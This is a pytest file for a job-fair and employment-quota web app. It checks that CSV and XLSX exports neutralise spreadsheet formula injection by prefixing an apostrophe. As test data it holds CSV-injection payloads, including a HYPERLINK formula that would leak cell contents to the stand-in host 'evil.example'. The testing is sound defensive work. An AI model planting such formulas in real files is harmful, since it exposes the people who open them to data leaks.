"""Every CSV and XLSX export neutralises text that a spreadsheet would run as a formula (OWASP's CSV-injection
advice): a company or a township named `=HYPERLINK(...)` arrives as text, with a leading apostrophe."""

import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from models import (AttendeeSource, DeclarationStatus, FairAttendee, FairOutcome, FairOutcomeKind, JobFair, LocalWage,
                    QuotaDeclaration, Role)
from services import declarations as ops
from tests.factories import make_employer, make_position, make_seeker, make_township
from webapp.exports import neutral

pytestmark = pytest.mark.web

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
#: within a township name's 40 characters
EVIL_PLACE = '=HYPERLINK("http://e.example","x")'


@pytest.fixture
def evil(app, db, accounts, login):
    """An employer named EVIL with a 2025 declaration, and a fair whose attendee lives in a township named EVIL;
    the staff user logged in."""
    app.config["ABLEMATCH_TODAY"] = "2026-11-28"
    db.add(LocalWage(jurisdiction="CN-ZJ", year=2025, average_yearly=Decimal("96000"),
                     minimum_monthly=Decimal("2280")))
    township = make_township(db, "99", EVIL_PLACE)
    township.name_en = EVIL_PLACE
    employer = make_employer(db, township, name=EVIL, headcount=100)
    declaration = QuotaDeclaration(employer=employer, year=2025, status=DeclarationStatus.SUBMITTED,
                                   staff_by_month=[100] * 12, total_wages=Decimal(6000000))
    ops.fill_declaration(declaration, [100] * 12, Decimal(6000000), [])
    db.add(declaration)
    db.flush()
    ops.store_assessment(db, declaration, ops.estimate(db, declaration))
    seeker = make_seeker(db, township)
    fair = JobFair(name="+SUM(1,1)", held_on=date(2026, 5, 20), venue="-2+3")
    position = make_position(db, employer, "@SUM(1)")
    fair.attendees.append(FairAttendee(seeker=seeker, source=AttendeeSource.ADVANCE,
                                       checked_in_at=datetime(2026, 5, 20, 2, tzinfo=timezone.utc)))
    fair.outcomes.append(FairOutcome(seeker=seeker, position=position, kind=FairOutcomeKind.HIRED))
    db.add(fair)
    db.commit()
    login(accounts[Role.STAFF])
    return fair


def csv_cells(response) -> list[str]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return [cell for row in csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))) for cell in row]


def test_a_formula_in_a_text_is_neutralised_and_numbers_stay_numbers():
    for text in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"):
        assert neutral(text) == "'" + text
    assert neutral("曹娥江包装") == "曹娥江包装" and neutral("") == ""
    assert neutral(-5) == -5 and neutral(Decimal("-1.50")) == Decimal("-1.50") and neutral(None) is None


@pytest.mark.parametrize("export", ["/declarations/staff/export-2025.csv", "/dashboards/district-2025.csv"])
def test_the_quota_csv_exports_neutralise_a_company_named_as_a_formula(evil, client, export):
    cells = csv_cells(client.get(export + "?lang=en"))
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_the_quota_xlsx_export_holds_the_name_as_text_not_a_formula(evil, client):
    response = client.get("/declarations/staff/export-2025.xlsx?lang=en")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    headers = [c.value for c in sheet[1]]
    name = sheet.cell(2, headers.index("Employer") + 1)
    assert name.data_type == "s" and name.value == "'" + EVIL
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    staff = sheet.cell(2, headers.index("Average staff") + 1)
    assert staff.data_type == "n"  # numbers stay numbers


def test_the_fair_report_csv_neutralises_a_township_named_as_a_formula(evil, client):
    cells = csv_cells(client.get(f"/fairs/{evil.id}/report.csv?lang=en"))
    assert "'" + EVIL_PLACE in cells and EVIL_PLACE not in cells
